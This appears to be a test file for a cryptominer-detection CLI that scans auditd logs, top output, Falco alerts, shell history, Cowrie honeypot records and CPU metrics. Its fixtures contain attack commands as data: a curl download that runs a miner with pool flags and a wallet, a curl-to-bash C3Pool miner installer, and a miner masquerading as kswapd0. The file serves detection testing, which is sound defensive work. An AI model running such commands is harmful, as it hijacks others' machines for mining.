import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { REPO_ROOT } from "../../test-helpers/index.js";
import { cliCommand } from "../../test-helpers/cli.js";

/**
 * One end-to-end scan per Linux / ticket format, through the real CLI and without --input-format: each file
 * must be sniffed as its format, and a miner in it must give the finding (or incident) the evidence deserves.
 */
function scanJson(args: string[]) {
  const mh = cliCommand(["scan", ...args, "--format", "json", "-q"]);
  const r = spawnSync(mh.command, mh.args, {
    encoding: "utf8", cwd: REPO_ROOT, maxBuffer: 64 << 20,
    env: { ...process.env, NO_COLOR: "1", MINERHUNT_INTEL_DIR: join(tmpdir(), "mh-no-intel"), LANG: "C.UTF-8" },
  });
  assert.equal(r.stderr.includes("    at "), false, r.stderr);
  const out = JSON.parse(r.stdout) as {
    files: { path: string; format?: string; events: number; issues: number }[];
    findings: { rule: { id: string }; confidence: number; evidence: { file: string; line?: number }[] }[];
    incidents: { title: string }[];
    issues: { file: string; line?: number; message: string }[];
  };
  return { code: r.status, out };
}

const hex = (s: string) => Buffer.from(s, "utf8").toString("hex").toUpperCase();
const WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

let dir = "";
before(() => { dir = mkdtempSync(join(tmpdir(), "mh-linux-")); });
after(() => rmSync(dir, { recursive: true, force: true }));

function write(name: string, text: string): string {
  const path = join(dir, name);
  mkdirSync(join(path, ".."), { recursive: true });
  writeFileSync(path, text);
  return path;
}

test("auditd audit.log: a renamed miner's execve (hex args) and its connect() open an incident", () => {
  const path = write("audit/audit.log", [
    `node=web-07 type=SYSCALL msg=audit(1795038072.120:9001): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=812 pid=4242 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="kswapd0" exe="/tmp/.X2-x-unix/.rsync/a/kswapd0" key="exec"`,
    `node=web-07 type=EXECVE msg=audit(1795038072.120:9001): argc=5 a0="./kswapd0" a1="-o" a2=${hex("pool.supportxmr.com:443")} a3="-u" a4="${WALLET}"`,
    `node=web-07 type=PROCTITLE msg=audit(1795038072.120:9001): proctitle=${hex(`./kswapd0\0-o\0pool.supportxmr.com:443\0-u\0${WALLET}`)}`,
    "node=web-07 type=EOE msg=audit(1795038072.120:9001): ",
    `node=web-07 type=SYSCALL msg=audit(1795038073.500:9003): arch=c000003e syscall=42 success=no exit=-115 a0=7 a1=7ffd a2=10 a3=0 items=0 ppid=812 pid=4242 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="kswapd0" exe="/tmp/.X2-x-unix/.rsync/a/kswapd0" key="net"`,
    "node=web-07 type=SOCKADDR msg=audit(1795038073.500:9003): saddr=02000D058D5E60900000000000000000",
    "node=web-07 type=EOE msg=audit(1795038073.500:9003): ",
    "node=web-07 type=EXECVE msg=audit(1795038074.000:9004): argc=2 a0=\"ls\" a1=\"-",
  ].join("\n") + "\n");
  const { code, out } = scanJson([path]);
  assert.equal(out.files[0]!.format, "auditd");
  assert.equal(code, 1);
  assert.ok(out.incidents.length >= 1);
  const miner = out.findings.find((f) => f.rule.id === "minerhunt.host.miner-process");
  assert.ok(miner, JSON.stringify(out.findings.map((f) => f.rule.id)));
  assert.deepEqual(miner.evidence[0], { ...miner.evidence[0], file: path, line: 1 });
  assert.ok(out.findings.some((f) => f.rule.id === "minerhunt.host.masquerade"), "kswapd0 run from /tmp");
  assert.deepEqual(out.issues.map((i) => i.line), [8], "the truncated record, with its line");
});

test("top screen pasted into a ticket: xmrig at 396% CPU opens an incident", () => {
  const path = write("ticket/top.txt", [
    "[root@wazuh-manager ~]# top",
    "top - 03:14:07 up 41 days,  2:11,  1 user,  load average: 4.12, 4.08, 3.97",
    "Tasks: 187 total,   2 running, 185 sleeping,   0 stopped,   0 zombie",
    "%Cpu(s): 99.2 us,  0.6 sy,  0.0 ni,  0.0 id,  0.0 wa,  0.0 hi,  0.2 si,  0.0 st",
    "MiB Mem :   7821.4 total,    412.3 free,   3120.8 used,   4288.3 buff/cache",
    "MiB Swap:   2048.0 total,   2040.0 free,      8.0 used.   4301.0 avail Mem ",
    "",
    "    PID USER      PR  NI    VIRT    RES    SHR S  %CPU  %MEM     TIME+ COMMAND",
    "  31337 wazuh     20   0 2436112 2.301g   3012 S 396.0  30.1   8812:01 xmrig",
    "   1022 wazuh     20   0 1285640 412448  21264 S   2.0   5.2  91:12.33 wazuh-analysisd",
  ].join("\n") + "\n");
  const { code, out } = scanJson([path]);
  assert.equal(out.files[0]!.format, "top");
  assert.equal(code, 1);
  assert.match(out.incidents[0]!.title, /xmrig/);
  assert.ok(out.findings.some((f) => f.rule.id === "minerhunt.host.miner-process" && f.evidence[0]!.line === 9));
});

test("Falco text alerts: the Stratum miner rule opens an incident as the JSON alert does", () => {
  const path = write("falco/falco.log",
    "03:14:07.341081180: Critical Possible miner running (command=/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5k pid=4711 container_id=3f1e2d9c8b7a image=ghcr.io/acme/payments-api) k8s.ns=payments k8s.pod=payments-api-7d9f8b6c5-x2x4k\n");
  const { code, out } = scanJson([path]);
  assert.equal(out.files[0]!.format, "falco.text");
  assert.equal(code, 1);
  assert.ok(out.findings.some((f) => f.rule.id === "falco-miner" && f.confidence >= 0.85));
});

test(".bash_history: a miner fetched and run with pool flags opens an incident; the user comes from the path", () => {
  const path = write("triage/home/deploy/.bash_history", [
    "#1795038000", "cd /tmp",
    "#1795038010", "curl -s http://198.51.100.9/xmrig -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x -o pool.supportxmr.com:443 -u " + WALLET,
  ].join("\n") + "\n");
  const { code, out } = scanJson([path]);
  assert.equal(out.files[0]!.format, "shell.history");
  assert.equal(code, 1);
  assert.ok(out.findings.some((f) => f.rule.id === "minerhunt.host.miner-process" && f.evidence[0]!.line === 4));
});

test("Cowrie JSON: an intruder installing a miner with C3Pool's setup script is a finding", () => {
  const base = { sensor: "hp-sgp-01", src_ip: "203.0.113.45", session: "a9d3c6e1b2f4" };
  const path = write("honeypot/cowrie.json", [
    { eventid: "cowrie.login.success", username: "root", password: "admin", message: "login attempt [root/admin] succeeded", timestamp: "2026-11-20T03:14:03.500102Z", ...base },
    { eventid: "cowrie.command.input", input: `curl -s -L http://download.c3pool.org/xmrig_setup/raw/master/setup_c3pool_miner.sh | bash -s ${WALLET}`, message: "CMD: ...", timestamp: "2026-11-20T03:14:09.250000Z", ...base },
  ].map((r) => JSON.stringify(r)).join("\n") + "\n");
  const { out } = scanJson([path]);
  assert.equal(out.files[0]!.format, "cowrie");
  assert.ok(out.findings.some((f) => f.rule.id === "minerhunt.host.miner-process" && f.evidence[0]!.line === 2), JSON.stringify(out.findings.map((f) => f.rule.id)));
});

test("--metric: an avg by (instance) CPU series is refused without it and gives sustained high CPU with it", () => {
  const t0 = 1795144440;
  const values = Array.from({ length: 41 }, (_, i) => [t0 + i * 60, "0.97"]);
  const path = write("prom/avg-cpu-by-instance.json", JSON.stringify({ status: "success", data: { resultType: "matrix", result: [{ metric: { instance: "web01:9100" }, values }] } }));
  const refused = scanJson([path]);
  assert.equal(refused.out.files[0]!.format, "prometheus.query_range");
  assert.match(refused.out.issues[0]!.message, /--metric/);
  assert.equal(refused.out.findings.length, 0);
  const told = scanJson([path, "--metric", "cpu-ratio"]);
  assert.deepEqual(told.out.issues, []);
  assert.equal(told.out.files[0]!.events, 41);
  assert.ok(told.out.findings.some((f) => f.rule.id === "minerhunt.host.high-cpu"), JSON.stringify(told.out.findings.map((f) => f.rule.id)));
});
